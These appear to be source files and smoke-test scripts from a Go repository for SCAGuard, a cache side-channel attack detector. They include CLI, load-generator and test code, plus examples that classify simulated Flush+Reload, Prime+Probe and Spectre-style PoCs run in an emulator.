					v.Index, v.Start, v.End, v.Events, mark, v.Result.Predicted, v.Result.Best.Name, v.Result.Best.Score*100)
			}
			if v.Malicious() && !flagged {
				flagged = true
				fmt.Printf(">>> ATTACK FLAGGED MID-TRACE: cycle %d, window %d, family %s\n", v.End, v.Index, v.Result.Predicted)
			}
		}
	}
	cfg := scaguard.WindowConfig{Size: uint64(*windowSize), Stride: uint64(*stride), QuietGap: uint64(*quietGap)}
	out, err := scaguard.Watch(ctx, det, prog, victim, cfg, emit)
	if err != nil {
		return err
	}
	fmt.Printf("\ntarget:    %s\n", prog.Name)
	fmt.Printf("windows:   %d (%d hits, %d quiet, %d errors)\n", out.Windows, out.Hits, out.Quiet, out.Errors)
	fmt.Printf("verdict:   %s", out.Final.Predicted)
	if out.Final.Best.Name != "" {
		fmt.Printf("  best=%s %.2f%%", out.Final.Best.Name, out.Final.Best.Score*100)
	}
	fmt.Println()
	if lat, ok := out.LatencyToDetection(); ok {
		fmt.Printf("detected:  cycle %d (latency-to-detection %d cycles)\n", out.DetectionCycle, lat)
	} else {
		fmt.Println("detected:  no")
	}
	if *stats {
		tel.Flush().WriteReport(os.Stdout)
	}
	return nil
}

// runStream reads target specs from stdin incrementally and classifies
// them through the streaming pipeline: verdicts print as each target
// resolves, a bad spec or a failed target prints an ERROR line without
// stopping the stream, and an interrupt cancels cleanly (the pipeline
// flushes error results for accepted targets before the command exits).
func runStream(det *scaguard.Detector, workers int) error {
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	in := make(chan scaguard.StreamTarget)
	go func() {
		defer close(in)
		sc := bufio.NewScanner(os.Stdin)
		for sc.Scan() {
			line := strings.TrimSpace(sc.Text())
			if line == "" || strings.HasPrefix(line, "#") {
				continue
			}
			prog, victim, err := loadSpec(line)
			if err != nil {
				fmt.Printf("%-34s ERROR %v\n", line, err)
				continue
			}
			select {
			case in <- scaguard.StreamTarget{ID: line, Program: prog, Victim: victim}:
			case <-ctx.Done():
				return
			}
		}
	}()
	out := scaguard.ClassifyStream(ctx, det, in, scaguard.StreamConfig{
		ModelWorkers:  workers,
		TargetTimeout: det.Timeout,
	})
	n, failed := 0, 0
	for r := range out {
		n++
		if r.Err != nil {
			failed++
			fmt.Printf("%-34s ERROR %v\n", r.ID, r.Err)
			continue
		}
		fmt.Printf("%-34s %-7s best=%s %.2f%%\n",
			r.ID, r.Verdict.Predicted, r.Verdict.Best.Name, r.Verdict.Best.Score*100)
	}
	fmt.Fprintf(os.Stderr, "stream: %d targets, %d failed\n", n, failed)
	if err := ctx.Err(); err != nil {
		return err
	}
	return nil
}
