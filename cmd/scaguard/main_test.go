package main

// Numeric-knob validation pins: every subcommand must reject
// semantically nonsensical flag values right after parsing, naming
// each offending flag — never let a negative worker count or cluster
// budget flow into the engine and fail somewhere far from the flag
// that caused it. All failures of one invocation are reported at once.

import (
	"strings"
	"testing"
)

func TestNumericKnobValidation(t *testing.T) {
	cases := []struct {
		name string
		run  func([]string) error
		args []string
		want []string // substrings the error must name
	}{
		{
			name: "classify accumulates",
			run:  cmdClassify,
			args: []string{"-workers", "-4", "-index-clusters", "-1", "-target", "FR-IAIK"},
			want: []string{"-workers", "-index-clusters"},
		},
		{
			name: "classify negative timeout",
			run:  cmdClassify,
			args: []string{"-timeout", "-5s", "-target", "FR-IAIK"},
			want: []string{"-timeout"},
		},
		{
			name: "classify negative result cache",
			run:  cmdClassify,
			args: []string{"-result-cache", "-8", "-target", "FR-IAIK"},
			want: []string{"-result-cache"},
		},
		{
			name: "serve mixed types",
			run:  cmdServe,
			args: []string{"-queue", "-2", "-rate", "-0.5", "-hedge", "-1ms"},
			want: []string{"-queue", "-rate", "-hedge"},
		},
		{
			name: "serve negative index budget",
			run:  cmdServe,
			args: []string{"-index-max-clusters", "-3"},
			want: []string{"-index-max-clusters"},
		},
		{
			name: "shard-serve zero shards",
			run:  cmdShardServe,
			args: []string{"-shards", "0"},
			want: []string{"-shards"},
		},
		{
			name: "shard-serve index out of range",
			run:  cmdShardServe,
			args: []string{"-shards", "2", "-shard-index", "2"},
			want: []string{"-shard-index"},
		},
		{
			name: "watch window knobs",
			run:  cmdWatch,
			args: []string{"-window", "-1", "-quiet-gap", "-3", "-target", "FR-IAIK"},
			want: []string{"-window", "-quiet-gap"},
		},
		{
			name: "watch negative stride",
			run:  cmdWatch,
			args: []string{"-stride", "-4096", "-target", "FR-IAIK"},
			want: []string{"-stride"},
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			err := tc.run(tc.args)
			if err == nil {
				t.Fatal("bad flag values accepted")
			}
			for _, w := range tc.want {
				if !strings.Contains(err.Error(), w) {
					t.Errorf("error %q does not name %s", err, w)
				}
			}
		})
	}
}

// TestBreakerThresholdNegativeAllowed: -breaker-threshold's negative
// range is meaningful ("disable breaking"), so validation must not
// reject it. The invocation still fails — the target spec is missing —
// but not on the flag value.
func TestBreakerThresholdNegativeAllowed(t *testing.T) {
	err := cmdClassify([]string{"-breaker-threshold", "-1"})
	if err == nil {
		t.Fatal("expected a missing-target error")
	}
	if strings.Contains(err.Error(), "breaker-threshold") {
		t.Fatalf("negative -breaker-threshold rejected: %v", err)
	}
}
