// Command scaguard-loadgen drives a running `scaguard serve` instance
// from many concurrent clients and verifies the service contract the
// docs promise: every successful response to the same request is
// byte-identical (the wire format loses nothing), and overload sheds
// with 429 instead of hanging.
//
// It doubles as the smoke tests' minimal HTTP client (-get/-post), so
// the scripts need nothing beyond the Go toolchain.
//
// Usage:
//
//	scaguard-loadgen -addr http://127.0.0.1:9090 -clients 64 -requests 2 -check
//	scaguard-loadgen -addr http://127.0.0.1:9090 -get /metrics
//	scaguard-loadgen -addr http://127.0.0.1:9090 -post /reload
//
// Load mode exits non-zero on any failed request (shed 429s are
// failures unless -tolerate-shed) or, with -check, on any divergence
// between successful verdict bodies.
package main

import (
	"bytes"
	"flag"
	"fmt"
	"io"
	"net/http"
	"os"
	"strings"
	"sync"
	"time"
)

func main() {
	addr := flag.String("addr", "http://127.0.0.1:9090", "base URL of the scaguard serve instance")
	spec := flag.String("spec", "attack:FR-IAIK", "target spec every client classifies")
	clients := flag.Int("clients", 8, "concurrent clients")
	requests := flag.Int("requests", 4, "requests per client")
	check := flag.Bool("check", false, "require every successful verdict body to be byte-identical")
	tolerateShed := flag.Bool("tolerate-shed", false, "count 429 responses instead of failing on them")
	key := flag.String("key", "", "X-API-Key header value; client index is appended per client")
	get := flag.String("get", "", "helper mode: GET this path, print the body, exit")
	post := flag.String("post", "", "helper mode: POST this path with -body, print the body, exit")
	body := flag.String("body", "", "request body for -post")
	timeout := flag.Duration("timeout", 30*time.Second, "per-request timeout")
	flag.Parse()

	base := strings.TrimRight(*addr, "/")
	if !strings.Contains(base, "://") {
		base = "http://" + base
	}
	client := &http.Client{Timeout: *timeout}

	if *get != "" || *post != "" {
		if err := helper(client, base, *get, *post, *body); err != nil {
			fmt.Fprintln(os.Stderr, "scaguard-loadgen:", err)
			os.Exit(1)
		}
		return
	}

	if err := load(client, base, *spec, *clients, *requests, *check, *tolerateShed, *key); err != nil {
		fmt.Fprintln(os.Stderr, "scaguard-loadgen:", err)
		os.Exit(1)
	}
}

// helper is the one-shot GET/POST mode.
func helper(client *http.Client, base, get, post, body string) error {
	var (
		resp *http.Response
		err  error
	)
	if get != "" {
		resp, err = client.Get(base + get)
	} else {
		resp, err = client.Post(base+post, "application/json", strings.NewReader(body))
	}
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		return err
	}
	os.Stdout.Write(b)
	if resp.StatusCode >= 300 {
		return fmt.Errorf("status %s", resp.Status)
	}
	return nil
}

type tally struct {
	mu       sync.Mutex
	ok, shed int
	failures []string
	// verdict is the first successful body; under -check every later
	// one must equal it byte for byte.
	verdict []byte
}

func load(client *http.Client, base, spec string, clients, requests int, check, tolerateShed bool, key string) error {
	reqBody := fmt.Sprintf(`{"target":{"spec":%q}}`, spec)
	var (
		t  tally
		wg sync.WaitGroup
	)
	for c := 0; c < clients; c++ {
		wg.Add(1)
		go func(c int) {
			defer wg.Done()
			for i := 0; i < requests; i++ {
				req, err := http.NewRequest(http.MethodPost, base+"/v1/classify", strings.NewReader(reqBody))
				if err != nil {
					t.fail(err.Error())
					return
				}
				req.Header.Set("Content-Type", "application/json")
				if key != "" {
					req.Header.Set("X-API-Key", fmt.Sprintf("%s-%d", key, c))
				}
				resp, err := client.Do(req)
				if err != nil {
					t.fail(err.Error())
					continue
				}
				b, err := io.ReadAll(resp.Body)
				resp.Body.Close()
				if err != nil {
					t.fail(err.Error())
					continue
				}
				switch {
				case resp.StatusCode == http.StatusOK:
					t.success(b, check)
				case resp.StatusCode == http.StatusTooManyRequests && tolerateShed:
					t.mu.Lock()
					t.shed++
					t.mu.Unlock()
				default:
					t.fail(fmt.Sprintf("status %s: %s", resp.Status, bytes.TrimSpace(b)))
				}
			}
		}(c)
	}
	wg.Wait()

	t.mu.Lock()
	defer t.mu.Unlock()
	fmt.Printf("scaguard-loadgen: %d clients x %d requests: %d ok, %d shed, %d failed\n",
		clients, requests, t.ok, t.shed, len(t.failures))
	if t.verdict != nil {
		fmt.Printf("verdict: %s\n", bytes.TrimSpace(t.verdict))
	}
	if len(t.failures) > 0 {
		return fmt.Errorf("%d requests failed; first: %s", len(t.failures), t.failures[0])
	}
	if t.ok == 0 {
		return fmt.Errorf("no request succeeded")
	}
	return nil
}

func (t *tally) success(body []byte, check bool) {
	t.mu.Lock()
	defer t.mu.Unlock()
	if t.verdict == nil {
		t.verdict = body
	} else if check && !bytes.Equal(t.verdict, body) {
		t.failures = append(t.failures,
			fmt.Sprintf("verdict diverged across clients:\n  %s\n  %s",
				bytes.TrimSpace(t.verdict), bytes.TrimSpace(body)))
	}
	t.ok++
}

func (t *tally) fail(msg string) {
	t.mu.Lock()
	defer t.mu.Unlock()
	t.failures = append(t.failures, msg)
}
