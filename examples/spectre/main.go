// Spectre detection (the paper's E2 scenario): the defender only knows
// the classic, non-transient Flush+Reload and Prime+Probe attacks, yet
// SCAGuard recognizes their Spectre-like variants — programs that leak
// through speculative execution — as variants of those families.
//
// The example also demonstrates that the simulated Spectre PoC actually
// leaks: it runs the PoC and reads the recovered secret out of the
// attacker's histogram.
//
// Run with:
//
//	go run ./examples/spectre
package main

import (
	"fmt"
	"log"

	scaguard "repro"

	"repro/internal/attacks"
	"repro/internal/exec"
)

func main() {
	// Step 1: prove the transient leak is real. Run S-FR-Good (a
	// Spectre-v1 gadget + Flush+Reload recovery) and read its histogram.
	poc := scaguard.MustAttack("S-FR-Good")
	machine, err := exec.NewMachine(exec.DefaultConfig(), poc.Program, poc.Victim)
	if err != nil {
		log.Fatal(err)
	}
	trace := machine.Run()
	seg, ok := poc.Program.Segment("hist")
	if !ok {
		log.Fatal("missing histogram segment")
	}
	best, bestCount := -1, uint64(0)
	for i := 0; i < 16; i++ {
		if v := machine.Memory().Load64(seg.Addr + uint64(i*8)); v > bestCount {
			best, bestCount = i, v
		}
	}
	fmt.Printf("spectre PoC executed: %d instructions retired, %d transient\n",
		trace.Retired, trace.Transient)
	fmt.Printf("leaked secret nibble: %d (planted: %d)\n",
		best, attacks.DefaultParams().Secret%16)

	// Step 2: the E2 setting — a repository that has never seen a
	// Spectre attack.
	det, err := scaguard.NewDetectorFromPoCs([]scaguard.PoC{
		scaguard.MustAttack("FR-IAIK"),
		scaguard.MustAttack("PP-IAIK"),
	})
	if err != nil {
		log.Fatal(err)
	}
	for _, name := range []string{"S-FR-Good", "S-FR-Min", "S-PP-Trippel"} {
		target := scaguard.MustAttack(name)
		res, _, err := det.Classify(target.Program, target.Victim)
		if err != nil {
			log.Fatal(err)
		}
		fmt.Printf("%-14s -> %-6s (best %s at %.2f%%)\n",
			name, res.Predicted, res.Best.Name, res.Best.Score*100)
	}
}
