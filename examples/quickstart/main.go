// Quickstart: build the default detector, model one Flush+Reload
// variant the repository has never seen and one benign program, and
// print both verdicts with their per-family scores.
//
// Run with:
//
//	go run ./examples/quickstart
package main

import (
	"fmt"
	"log"

	scaguard "repro"
)

func main() {
	// The detector's repository holds one behavior model per attack
	// family, each built from a single canonical proof of concept — the
	// paper's deployment configuration.
	det, err := scaguard.NewDetector()
	if err != nil {
		log.Fatal(err)
	}

	// 1. A Flush+Reload implementation that is NOT in the repository.
	// SCAGuard must recognize it as a variant of the FR family.
	poc := scaguard.MustAttack("FR-Nepoche")
	res, m, err := det.Classify(poc.Program, poc.Victim)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("target %q: %d CFG blocks reduced to a %d-transition model\n",
		poc.Name, m.CFG.NumBlocks(), m.BBS.Len())
	fmt.Printf("verdict: %s\n", res.Predicted)
	for _, match := range res.Matches {
		fmt.Printf("  vs %-14s %-5s %6.2f%%\n", match.Name, match.Family, match.Score*100)
	}

	// 2. A benign program with heavy, attack-like cache activity: an
	// AES-style T-table cipher. The CST-BBS model separates it anyway.
	aes, err := scaguard.GenerateBenign("crypto", "aes-ttable", 42)
	if err != nil {
		log.Fatal(err)
	}
	res2, m2, err := det.Classify(aes, nil)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("\ntarget %q: model length %d\n", aes.Name, m2.BBS.Len())
	fmt.Printf("verdict: %s (best score %.2f%%, threshold %.0f%%)\n",
		res2.Predicted, res2.Best.Score*100, det.Threshold*100)
}
