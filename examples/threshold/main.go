// Threshold tuning (the paper's Fig. 5): sweep the similarity threshold
// over a small labeled corpus and print precision/recall/F1 per setting
// plus the plateau where all three stay high — the analysis that selects
// the deployed 45% operating point.
//
// Run with:
//
//	go run ./examples/threshold
package main

import (
	"fmt"
	"log"
	"strings"

	"repro/internal/experiments"
)

func main() {
	cfg := experiments.DefaultConfig()
	cfg.PerClass = 12

	points, err := experiments.Fig5(cfg, nil)
	if err != nil {
		log.Fatal(err)
	}

	fmt.Println("threshold sweep over a 5-class corpus (12 samples/class):")
	fmt.Printf("%-10s %10s %10s %10s\n", "threshold", "precision", "recall", "f1")
	for _, p := range points {
		bar := strings.Repeat("#", int(p.Scores.F1*40))
		fmt.Printf("%9.0f%% %9.1f%% %9.1f%% %9.1f%%  %s\n",
			p.Threshold*100, p.Scores.Precision*100, p.Scores.Recall*100, p.Scores.F1*100, bar)
	}

	if lo, hi, ok := experiments.PlateauRange(points, 0.9); ok {
		fmt.Printf("\nP/R/F1 all >= 90%% for thresholds %.0f%%-%.0f%%", lo*100, hi*100)
		fmt.Printf(" -> the paper's 45%% operating point sits inside the plateau\n")
	} else if lo, hi, ok = experiments.PlateauRange(points, 0.8); ok {
		fmt.Printf("\nP/R/F1 all >= 80%% for thresholds %.0f%%-%.0f%%\n", lo*100, hi*100)
	}
}
