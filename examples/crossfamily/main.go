// Cross-family generalizability (the paper's E3 scenario): the defender
// knows only ONE attack family, yet a completely different family is
// still detected, because every cache side-channel attack must prepare
// and measure cache state — behavior the CST-BBS model captures
// regardless of the concrete technique.
//
// This is where the learning-based baselines collapse (Table VI, E3):
// a classifier trained on Flush+Reload features has never seen a
// Prime+Probe trace. The example contrasts the two.
//
// Run with:
//
//	go run ./examples/crossfamily
package main

import (
	"fmt"
	"log"

	scaguard "repro"
)

func main() {
	// Defender knows only Flush+Reload.
	det, err := scaguard.NewDetectorFromPoCs([]scaguard.PoC{
		scaguard.MustAttack("FR-IAIK"),
	})
	if err != nil {
		log.Fatal(err)
	}

	fmt.Println("repository: FR-IAIK only")
	fmt.Println()

	// Targets: both Prime+Probe implementations (never-seen family) and
	// two benign programs as controls.
	type target struct {
		name   string
		poc    bool
		victim bool
		isAtk  bool
		kind   string
		tmpl   string
	}
	targets := []target{
		{name: "PP-IAIK", poc: true, victim: true, isAtk: true},
		{name: "PP-Jzhang", poc: true, victim: true, isAtk: true},
		{name: "benign rc4", kind: "crypto", tmpl: "rc4-stream"},
		{name: "benign btree", kind: "server", tmpl: "sqlite-btree"},
	}

	correct := 0
	for _, tg := range targets {
		var prog, victim *scaguard.Program
		if tg.poc {
			p := scaguard.MustAttack(tg.name)
			prog, victim = p.Program, p.Victim
		} else {
			var err error
			prog, err = scaguard.GenerateBenign(tg.kind, tg.tmpl, 7)
			if err != nil {
				log.Fatal(err)
			}
		}
		res, _, err := det.Classify(prog, victim)
		if err != nil {
			log.Fatal(err)
		}
		detected := res.Predicted != scaguard.FamilyBenign
		ok := detected == tg.isAtk
		if ok {
			correct++
		}
		fmt.Printf("%-14s detected=%-5v score=%6.2f%%  %s\n",
			tg.name, detected, res.Best.Score*100, verdict(ok))
	}
	// Contrast (Table VI, E3-1): a rule engine like SCADET cannot
	// describe a family it has no rules for, and a classifier trained
	// only on Flush+Reload traces has never seen Prime+Probe features —
	// both collapse here, while the behavior model generalizes.
	fmt.Printf("\nSCAGuard: %d/%d correct knowing only Flush+Reload\n", correct, len(targets))
}

func verdict(ok bool) string {
	if ok {
		return "correct"
	}
	return "WRONG"
}
