// Disguised attacks (the paper's Limitation + future work, Section V):
// an attack that only runs its malicious phase for a magic input hides
// from dynamic modeling on a default input. The coverage-guided input
// explorer (internal/trigger) finds the trigger AFL-style and the model
// built on the unlocked trace is classified correctly.
//
// Run with:
//
//	go run ./examples/disguised
package main

import (
	"fmt"
	"log"

	scaguard "repro"

	"repro/internal/attacks"
	"repro/internal/cache"
	"repro/internal/model"
	"repro/internal/trigger"
)

func main() {
	// A Flush+Reload PoC gated behind the 2-byte magic 0xCAFE.
	poc, err := trigger.Disguise(
		attacks.FlushReloadIAIK(attacks.DefaultParams()), 0xCAFE, 2)
	if err != nil {
		log.Fatal(err)
	}
	det, err := scaguard.NewDetector()
	if err != nil {
		log.Fatal(err)
	}

	// Naive dynamic analysis: run with the default input.
	res, _, err := det.Classify(poc.Program, poc.Victim)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("default input: verdict %s (the decoy path hides the attack)\n", res.Predicted)

	// Coverage-guided exploration.
	explorer := trigger.NewExplorer()
	found, err := explorer.Explore(poc.Program, poc.Victim)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("explorer: %d runs, %d coverage-increasing inputs, best input %#x\n",
		found.Runs, len(found.Corpus), found.BestInput)

	// Model the unlocked trace and classify again.
	m, err := model.BuildFromTrace(poc.Program, found.BestTrace,
		cache.DefaultHierarchyConfig().LLC, model.DefaultConfig())
	if err != nil {
		log.Fatal(err)
	}
	verdict := det.ClassifyBBS(m.BBS)
	fmt.Printf("after exploration: verdict %s (best match %s at %.2f%%)\n",
		verdict.Predicted, verdict.Best.Name, verdict.Best.Score*100)
}
