package scaguard

// End-to-end differential for the verdict result cache over the full
// golden corpus: a 3-shard detector with the result cache on must
// produce verdicts identical to the plain single-engine detector for
// every corpus program, and a repeat pass over the corpus must be
// served entirely from memory — zero additional repository scans.

import (
	"reflect"
	"testing"

	"repro/internal/telemetry"
)

func TestGoldenVerdictsShardedCached(t *testing.T) {
	ref, err := NewDetector()
	if err != nil {
		t.Fatal(err)
	}
	det, err := NewDetector()
	if err != nil {
		t.Fatal(err)
	}
	det.Shards = 3
	det.ResultCache = 128
	tel := NewTelemetry()
	det.Telemetry = tel

	corpus := goldenCorpus(t)
	var scanned uint64 // classifications that reach the scanner (not gated)
	for _, tgt := range corpus {
		want, _, err := ref.Classify(tgt.prog, tgt.victim)
		if err != nil {
			t.Fatalf("reference classify %s: %v", tgt.name, err)
		}
		got, _, err := det.Classify(tgt.prog, tgt.victim)
		if err != nil {
			t.Fatalf("cached classify %s: %v", tgt.name, err)
		}
		if !reflect.DeepEqual(got, want) {
			t.Fatalf("%s: sharded+cached verdict diverged:\n got %+v\nwant %+v", tgt.name, got, want)
		}
		if len(got.Matches) > 0 {
			scanned++
		}
	}

	scansCold := tel.Counter(telemetry.ScanTargets)
	hitsCold := tel.Counter(telemetry.VCacheHits)
	for _, tgt := range corpus {
		want, _, err := ref.Classify(tgt.prog, tgt.victim)
		if err != nil {
			t.Fatalf("reference reclassify %s: %v", tgt.name, err)
		}
		got, _, err := det.Classify(tgt.prog, tgt.victim)
		if err != nil {
			t.Fatalf("warm classify %s: %v", tgt.name, err)
		}
		if !reflect.DeepEqual(got, want) {
			t.Fatalf("%s: warm cached verdict diverged", tgt.name)
		}
	}
	if scans := tel.Counter(telemetry.ScanTargets); scans != scansCold {
		t.Errorf("repeat pass scanned: scan_targets %d -> %d, want frozen", scansCold, scans)
	}
	if gotHits := tel.Counter(telemetry.VCacheHits) - hitsCold; gotHits != scanned {
		t.Errorf("repeat pass hits = %d, want %d (one per non-gated target)", gotHits, scanned)
	}
}
