#!/bin/sh
# End-to-end smoke test of the detection service: build the CLI and the
# load generator, start two shard-serve processes plus a serve front
# end over them, then prove the operator-facing contract:
#
#   1. 64 concurrent clients get byte-identical verdicts (the wire
#      format loses nothing, concurrency corrupts nothing);
#   2. POST /reload hot-swaps the repository with zero failed requests
#      and bumps its version;
#   3. the verdict result cache warms back up after the reload
#      (vcache_hits grows once the same target repeats);
#   4. SIGTERM drains: the serve process exits cleanly.
set -eu

GO=${GO:-go}
SPEC=${SPEC:-attack:FR-IAIK}
CLIENTS=${CLIENTS:-64}
PORT_A=${PORT_A:-19421}
PORT_B=${PORT_B:-19422}
PORT_S=${PORT_S:-19423}

tmp=$(mktemp -d)
trap 'kill $pid_a $pid_b $pid_s 2>/dev/null || true; rm -rf "$tmp"' EXIT INT TERM

$GO build -o "$tmp/scaguard" ./cmd/scaguard
$GO build -o "$tmp/loadgen" ./cmd/scaguard-loadgen

"$tmp/scaguard" shard-serve -shards 2 -shard-index 0 -addr 127.0.0.1:$PORT_A &
pid_a=$!
"$tmp/scaguard" shard-serve -shards 2 -shard-index 1 -addr 127.0.0.1:$PORT_B &
pid_b=$!

# serve handshakes with every shard at startup, so both must be up
# before it launches.
for port in $PORT_A $PORT_B; do
    up=0
    for i in $(seq 1 50); do
        if "$tmp/loadgen" -addr 127.0.0.1:$port -get /healthz >/dev/null 2>&1; then
            up=1
            break
        fi
        sleep 0.2
    done
    if [ "$up" != 1 ]; then
        echo "serve-smoke: shard on port $port never came up" >&2
        exit 1
    fi
done

# The serve front end fans every scan out across the two shards and
# memoizes verdicts (the cache-warm assertion below needs it).
"$tmp/scaguard" serve -addr 127.0.0.1:$PORT_S \
    -shard-addrs 127.0.0.1:$PORT_A,127.0.0.1:$PORT_B \
    -result-cache 64 -max-inflight 128 2>"$tmp/serve.err" &
pid_s=$!

ready=0
for i in $(seq 1 50); do
    if "$tmp/loadgen" -addr 127.0.0.1:$PORT_S -get /healthz >"$tmp/healthz" 2>/dev/null; then
        ready=1
        break
    fi
    sleep 0.2
done
if [ "$ready" != 1 ]; then
    echo "serve-smoke: service never became healthy" >&2
    cat "$tmp/serve.err" >&2
    exit 1
fi

# 1. Concurrent bit-identity: every one of the 64 clients' verdicts
# must match byte for byte.
"$tmp/loadgen" -addr 127.0.0.1:$PORT_S -spec "$SPEC" \
    -clients "$CLIENTS" -requests 2 -check | tee "$tmp/load1.out"

# grep -c is the portable counter extractor for the JSON snapshot.
hits() {
    "$tmp/loadgen" -addr 127.0.0.1:$PORT_S -get /metrics \
        | tr ',{' '\n\n' | sed -n 's/.*"vcache_hits": *\([0-9]*\).*/\1/p' | head -n 1
}
hits_before=$(hits)
[ -n "$hits_before" ] || { echo "serve-smoke: /metrics has no vcache_hits" >&2; exit 1; }

# 2. Hot reload: the swap must succeed and report the repository.
"$tmp/loadgen" -addr 127.0.0.1:$PORT_S -post /reload >"$tmp/reload.out"
grep -q '"version"' "$tmp/reload.out" || {
    echo "serve-smoke: reload reply malformed: $(cat "$tmp/reload.out")" >&2
    exit 1
}

# 3. Cache warms back up: after the version bump the first repeat scan
# misses, the second hits, so vcache_hits must grow.
"$tmp/loadgen" -addr 127.0.0.1:$PORT_S -spec "$SPEC" -clients 1 -requests 3 -check >"$tmp/load2.out"
hits_after=$(hits)
if [ "$hits_after" -le "$hits_before" ] 2>/dev/null; then
    echo "serve-smoke: vcache never warmed after reload (hits $hits_before -> $hits_after)" >&2
    exit 1
fi

# The verdicts before and after the reload must agree (same corpus).
v1=$(sed -n 's/^verdict: //p' "$tmp/load1.out")
v2=$(sed -n 's/^verdict: //p' "$tmp/load2.out")
if [ "$v1" != "$v2" ]; then
    echo "serve-smoke: verdict changed across reload" >&2
    printf '%s\n%s\n' "$v1" "$v2" >&2
    exit 1
fi

# 4. Graceful drain on SIGTERM.
kill -TERM $pid_s
drained=1
wait $pid_s || drained=0
pid_s=""
if [ "$drained" != 1 ] || ! grep -q drained "$tmp/serve.err"; then
    echo "serve-smoke: serve did not drain cleanly on SIGTERM" >&2
    cat "$tmp/serve.err" >&2
    exit 1
fi

echo "serve-smoke: OK ($CLIENTS clients bit-identical; reload + cache warm (hits $hits_before -> $hits_after); clean drain)"
