#!/bin/sh
# End-to-end smoke test of the replicated fleet's failure modes: build
# the CLI, start a 2-partition x 2-replica shard fleet on loopback,
# then walk the failure ladder —
#
#   1. healthy fleet: replicated classify is bit-identical to a
#      single-engine run of the same target;
#   2. one replica killed (the preferred replica of partition 0):
#      classify warns about the corpse but fails over and stays
#      bit-identical;
#   3. whole partition killed: classify refuses loudly (no healthy
#      replica for the group) instead of emitting a silently
#      incomplete verdict.
#
# Then the in-process chaos soak (internal/chaos) runs a short
# deterministic scenario schedule under the race detector: kills,
# blackouts, slow replicas and flappers under concurrent load, with
# breaker re-admission and goroutine-leak checks. docs/ROBUSTNESS.md
# documents the full matrix.
set -eu

GO=${GO:-go}
TARGET=${TARGET:-ER-IAIK}
PORT_A1=${PORT_A1:-19421}
PORT_A2=${PORT_A2:-19422}
PORT_B1=${PORT_B1:-19423}
PORT_B2=${PORT_B2:-19424}
CHAOS_ROUNDS=${CHAOS_ROUNDS:-4}

tmp=$(mktemp -d)
trap 'kill $pid_a1 $pid_a2 $pid_b1 $pid_b2 2>/dev/null || true; rm -rf "$tmp"' EXIT INT TERM

$GO build -o "$tmp/scaguard" ./cmd/scaguard

"$tmp/scaguard" shard-serve -shards 2 -shard-index 0 -addr 127.0.0.1:$PORT_A1 &
pid_a1=$!
"$tmp/scaguard" shard-serve -shards 2 -shard-index 0 -addr 127.0.0.1:$PORT_A2 &
pid_a2=$!
"$tmp/scaguard" shard-serve -shards 2 -shard-index 1 -addr 127.0.0.1:$PORT_B1 &
pid_b1=$!
"$tmp/scaguard" shard-serve -shards 2 -shard-index 1 -addr 127.0.0.1:$PORT_B2 &
pid_b2=$!

fleet="127.0.0.1:$PORT_A1|127.0.0.1:$PORT_A2,127.0.0.1:$PORT_B1|127.0.0.1:$PORT_B2"

# Wait for the whole fleet to answer the health handshake: until every
# replica is up, classify reports the stragglers as unhealthy warnings.
for i in $(seq 1 50); do
    if "$tmp/scaguard" classify -target "$TARGET" -shard-addrs "$fleet" \
        >"$tmp/replicated.out" 2>"$tmp/replicated.err" \
        && ! grep -q unhealthy "$tmp/replicated.err"; then
        break
    fi
    if [ "$i" = 50 ]; then
        echo "chaos-smoke: fleet never became healthy" >&2
        cat "$tmp/replicated.err" >&2
        exit 1
    fi
    sleep 0.2
done

"$tmp/scaguard" classify -target "$TARGET" >"$tmp/single.out"

if ! cmp -s "$tmp/single.out" "$tmp/replicated.out"; then
    echo "chaos-smoke: healthy replicated classify diverged from single-engine" >&2
    diff "$tmp/single.out" "$tmp/replicated.out" >&2 || true
    exit 1
fi

# Kill partition 0's preferred replica: the verdict must not change,
# and the handshake must name the corpse.
kill $pid_a1
wait $pid_a1 2>/dev/null || true
"$tmp/scaguard" classify -target "$TARGET" -shard-addrs "$fleet" \
    >"$tmp/failover.out" 2>"$tmp/failover.err"
if ! cmp -s "$tmp/single.out" "$tmp/failover.out"; then
    echo "chaos-smoke: failover classify diverged from single-engine" >&2
    diff "$tmp/single.out" "$tmp/failover.out" >&2 || true
    exit 1
fi
if ! grep -q "127.0.0.1:$PORT_A1 unhealthy" "$tmp/failover.err"; then
    echo "chaos-smoke: dead replica was not reported unhealthy" >&2
    cat "$tmp/failover.err" >&2
    exit 1
fi

# Kill the whole partition: classify must refuse, not degrade silently.
kill $pid_a2
wait $pid_a2 2>/dev/null || true
if "$tmp/scaguard" classify -target "$TARGET" -shard-addrs "$fleet" \
    >"$tmp/blackout.out" 2>"$tmp/blackout.err"; then
    echo "chaos-smoke: classify succeeded with a whole partition dark" >&2
    exit 1
fi
if ! grep -q "no healthy replica" "$tmp/blackout.err"; then
    echo "chaos-smoke: blackout error did not name the dead group" >&2
    cat "$tmp/blackout.err" >&2
    exit 1
fi

# Short in-process soak under the race detector: deterministic kills,
# blackouts, slow replicas and flappers with bit-identity, breaker
# convergence and leak assertions (CHAOS_SEED/CHAOS_ROUNDS tune it).
CHAOS_ROUNDS=$CHAOS_ROUNDS $GO test -race -count=1 -run 'TestChaosSoak$' ./internal/chaos

echo "chaos-smoke: OK ($(grep verdict "$tmp/failover.out"))"
