#!/bin/sh
# End-to-end smoke test of the repository-index path: generate a seeded
# mutation stress corpus with scaguard-corpus, classify a target against
# it flat and indexed (the verdict output must be identical — indexed
# exact mode is bit-identical on the best match), then serve the same
# corpus from two warm-indexed shard-serve processes and require the
# sharded indexed classify to agree with the local runs. Exercises the
# whole seam chain: corpus generation, index construction, the indexed
# scan, the warm-index server flag and the Index trio on the wire.
set -eu

GO=${GO:-go}
TARGET=${TARGET:-FR-IAIK}
PER_FAMILY=${PER_FAMILY:-12}
PORT_A=${PORT_A:-19421}
PORT_B=${PORT_B:-19422}

tmp=$(mktemp -d)
pid_a=""
pid_b=""
trap 'kill $pid_a $pid_b 2>/dev/null || true; rm -rf "$tmp"' EXIT INT TERM

$GO build -o "$tmp/scaguard" ./cmd/scaguard
